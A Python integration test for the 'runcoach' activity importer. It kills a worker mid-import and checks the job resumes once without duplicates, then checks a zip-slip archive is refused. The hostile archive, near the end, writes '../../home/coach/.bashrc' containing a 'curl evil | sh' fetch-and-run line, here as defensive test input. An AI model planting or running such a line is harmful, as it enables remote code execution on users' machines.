"""A Strava export built from the shared real files (FIT, GPX, TCX, gzipped and not, plus a manual activity
and a loose file), uploaded to a real `runcoach api` and imported by real `runcoach worker` processes.

Promise (issue 19): the worker that runs the archive's job is killed (SIGKILL) half-way; another worker
claims the job after the visibility timeout and finishes it: every item once, each with the result an
uninterrupted import of the same archive gives (nothing doubled, nothing lost), and the items committed
before the kill are not redone. Importing the archive again adds nothing. A zip with `../` members is
refused at upload with the reason, and nothing is stored.

"Half-way" is made exact: the archive's 31st item names the athlete's gear, and the test holds that gear
row locked (`SELECT … FOR UPDATE`), so linking it waits. By then at least one batch of items is committed;
the worker is killed while it waits.
"""

from __future__ import annotations

import asyncio
import re
import time
import uuid
from pathlib import Path

import asyncpg
import pytest

from core.runtime import libpq_url
from tests.faults.conftest import Account, sign_up, until
from tests.faults.stack import Role, Stack, job_ended
from tests.support.shared_data import SHARED_DATA, require
from tests.tools.activities.strava_export import Row, build_export

pytestmark = pytest.mark.slow

VISIBILITY_TIMEOUT_S = 3
WORKER_ENV = {"RUNCOACH_JOB_VISIBILITY_TIMEOUT_S": str(VISIBILITY_TIMEOUT_S)}
#: bounds on waiting (a hang fails the test); not timing figures
WAIT_S = 180.0
GEAR = "Pegasus 40"
#: the item that names the gear (the 31st: after the first batch of at most 20 items is committed)
GEAR_AT = 30
KINDS = {"runs": "Run", "rides": "Ride", "swim": "Swim", "gpxpy": "Hike"}
FIT_FILES = (
    "fitdecode/tests/files/2013-02-06-12-11-14.fit",
    "fitdecode/tests/files/2015-10-13-08-43-15.fit",
    "fitdecode/tests/files/activity-small-fenix2-run.fit",
    "fitdecode/tests/files/developer-types-sample.fit",
    "fitdecode/tests/files/garmin-fenix-5-bike.fit",
    "fitdecode/tests/files/garmin-fenix-5-walk.fit",
    "fitdecode/tests/files/invalid/activity-filecrc.fit",
    "fitdecode/tests/files/Settings.fit",
    "python-fitparse/tests/files/sample_mulitple_header.fit",
    "garth/11998957007_ACTIVITY.fit",
)


def _rows() -> list[Row]:
    """Every GPX/TCX file under activity-files/ and some FIT files (some refused: a route, GPX without
    times, a bad checksum, a settings file), the gear row 31st, and a manual activity."""
    root = require("activity-files")
    tracks = sorted(p for p in root.rglob("*") if p.suffix in (".gpx", ".tcx"))
    rows = []
    for i, path in enumerate(tracks):
        relative, parts = path.relative_to(SHARED_DATA), path.relative_to(root).parts
        kind = KINDS[parts[1] if parts[0] == "sports-lib" else parts[0]]
        suffix = path.suffix + (".gz" if i % 3 == 0 else "")
        rows.append(Row(str(3000 + i), str(relative), f"{3000 + i}{suffix}", name=path.stem, kind=kind))
    fits = [
        Row(str(4000 + i), f"fit/{name}", f"{4000 + i}.fit" + (".gz" if i % 2 else ""), name=Path(name).stem)
        for i, name in enumerate(FIT_FILES)
    ]
    gear_row = Row(
        "5000", "fit/fitdecode/tests/files/garmin-fenix-5-run.fit", "5000.fit.gz", name="Gear run", gear=GEAR
    )
    manual = Row("6000", None, name="Treadmill", kind="Run", elapsed_s=1800, distance_m=5000)
    ordered = rows + fits
    return [*ordered[:GEAR_AT], gear_row, *ordered[GEAR_AT:], manual]


async def _upload(account: Account, archive: Path) -> uuid.UUID:
    sent = await account.client.post(
        "/api/v1/activities/import",
        files=[("files", (archive.name, await asyncio.to_thread(archive.read_bytes), "application/zip"))],
    )
    assert sent.status_code == 202, sent.text
    return uuid.UUID(sent.json()["job_id"])


async def _stored(stack: Stack, user_id: int) -> tuple[dict[int, int], dict[int, int], dict[int, int]]:
    """The user's activities (id → sample_count), multisport legs included; the samples actually stored per
    activity; and which top-level activity each one is (itself, or a leg's parent)."""
    activities = await stack.sql(
        "SELECT id, sample_count, coalesce(parent_id, id) AS top FROM activities WHERE user_id = $1", user_id
    )
    samples = await stack.sql(
        "SELECT activity_id, count(*) FROM activity_samples WHERE user_id = $1 GROUP BY activity_id", user_id
    )
    return (
        {a["id"]: a["sample_count"] for a in activities},
        {s[0]: s[1] for s in samples},
        {a["id"]: a["top"] for a in activities},
    )


def _items_logged(role: Role, job_id: uuid.UUID) -> list[str]:
    return re.findall(rf"archive job {job_id}: (\S+(?: \S+ \(no file\))?) \w+$", role.log(), re.MULTILINE)


async def test_an_archive_survives_a_killed_worker_imports_once_and_refuses_parent_paths(
    stack: Stack, accounts: list[Account], tmp_path: Path
) -> None:
    rows = _rows()
    archive = build_export(
        tmp_path / "export_4242.zip",
        rows,
        loose={"activities/9001.gpx": ("activity-files/sports-lib/runs/gpx/1681613317.gpx")},
    )
    roles = [
        stack.role("api", ready=False),
        *(stack.role("worker", env=WORKER_ENV, ready=False) for _ in "ab"),
    ]
    for role in roles:
        await asyncio.to_thread(role.wait_ready)
    api, workers = roles[0], roles[1:]
    reference, athlete = await sign_up(api.url or ""), await sign_up(api.url or "")
    accounts += [reference, athlete]
    gear = {}
    for account in (reference, athlete):
        gear[account.user_id] = await stack.value(
            "INSERT INTO gear (user_id, name) VALUES ($1, $2) RETURNING id", account.user_id, GEAR
        )

    # the reference: the same archive imported without interruption (another athlete)
    expected_job = await stack.wait_for_job(
        await _upload(reference, archive), job_ended, "the reference import", within_s=WAIT_S
    )
    assert expected_job["state"] == "succeeded", expected_job
    expected = {f["file"]: f["status"] for f in expected_job["result"]["files"]}
    assert len(expected) == len(rows) + 1
    statuses = set(expected.values())
    assert statuses == {"imported", "already_imported", "rejected"}, expected

    # the athlete's import: held at the gear item, then its worker is killed
    lock = await asyncpg.connect(libpq_url(stack.database_url), timeout=10)
    try:
        hold = lock.transaction()
        await hold.start()
        await lock.execute("SELECT id FROM gear WHERE id = $1 FOR UPDATE", gear[athlete.user_id])
        job_id = await _upload(athlete, archive)
        await until(
            lambda: any(
                f"archive job {job_id}: activities/{rows[GEAR_AT - 1].stored_as}" in w.log() for w in workers
            ),
            within_s=WAIT_S,
            what="the item before the gear item",
        )
        blocked_query = (
            "SELECT count(*) FROM pg_stat_activity WHERE wait_event_type = 'Lock' AND query ILIKE "
            "'%activity_gear%'"
        )
        deadline = time.monotonic() + WAIT_S
        while not await stack.value(blocked_query):
            assert time.monotonic() < deadline, "the import never reached the locked gear"
            await asyncio.sleep(0.05)
        (taken_by,) = [w for w in workers if f"archive job {job_id}" in w.log()]
        taken_by.kill()
        await hold.rollback()
    finally:
        await lock.close()
    killed = await stack.job(job_id)
    assert killed["state"] == "running", "nobody told PostgreSQL: the worker died"
    committed = [f["file"] for f in killed["progress"]["files"]]
    assert 1 <= len(committed) <= GEAR_AT, killed["progress"]
    assert len(_items_logged(taken_by, job_id)) == GEAR_AT, "it was at the gear item when it died"

    finished = await stack.wait_for_job(job_id, job_ended, "the resumed import", within_s=WAIT_S)
    assert finished["state"] == "succeeded" and finished["attempts"] == 2, finished
    (survivor,) = [w for w in workers if w is not taken_by]
    assert "claimed job message" in survivor.log()
    redone = _items_logged(survivor, job_id)
    assert not set(redone) & set(committed), "items committed before the kill were imported again"
    assert committed + redone == [f["file"] for f in finished["result"]["files"]]

    # nothing doubled, nothing lost: the uninterrupted import's result, item by item, and its rows
    got = {f["file"]: f["status"] for f in finished["result"]["files"]}
    assert got == expected
    mine, theirs = await _stored(stack, athlete.user_id), await _stored(stack, reference.user_id)
    imported = [f for f in finished["result"]["files"] if f["status"] == "imported"]
    assert sorted(set(mine[2].values())) == sorted(f["activity_id"] for f in imported)
    assert sorted(mine[0].values()) == sorted(theirs[0].values()), "the same activities, the same samples"
    assert mine[1] == {a: n for a, n in mine[0].items() if n}, "each activity's samples stored once"
    gear_item = f"activities/{rows[GEAR_AT].stored_as}"
    linked = await stack.value(
        "SELECT g.name FROM activity_gear ag JOIN gear g ON g.id = ag.gear_id WHERE ag.activity_id = $1",
        next(f["activity_id"] for f in imported if f["file"] == gear_item),
    )
    assert linked == GEAR

    # the same archive again: nothing new
    again = await stack.wait_for_job(
        await _upload(athlete, archive), job_ended, "the second import", within_s=WAIT_S
    )
    assert again["state"] == "succeeded", again
    second = {f["file"]: f["status"] for f in again["result"]["files"]}
    assert second == {k: "rejected" if v == "rejected" else "already_imported" for k, v in expected.items()}
    assert await _stored(stack, athlete.user_id) == mine
    assert await stack.value("SELECT count(*) FROM pg_largeobject_metadata") == 0, "staged copies dropped"

    # a zip with `../` members: refused at the door with the reason; no job, nothing staged
    hostile = build_export(
        tmp_path / "export_evil.zip", rows[:3], extra={"../../home/coach/.bashrc": b"curl evil | sh\n"}
    )
    jobs_before = await stack.value("SELECT count(*) FROM jobs WHERE user_id = $1", athlete.user_id)
    refused = await athlete.client.post(
        "/api/v1/activities/import",
        files=[("files", (hostile.name, await asyncio.to_thread(hostile.read_bytes), "application/zip"))],
    )
    assert refused.status_code == 422, refused.text
    assert "outside the archive (../../home/coach/.bashrc)" in refused.json()["detail"]
    assert await stack.value("SELECT count(*) FROM jobs WHERE user_id = $1", athlete.user_id) == jobs_before
    assert await stack.value("SELECT count(*) FROM pg_largeobject_metadata") == 0
    assert await _stored(stack, athlete.user_id) == mine
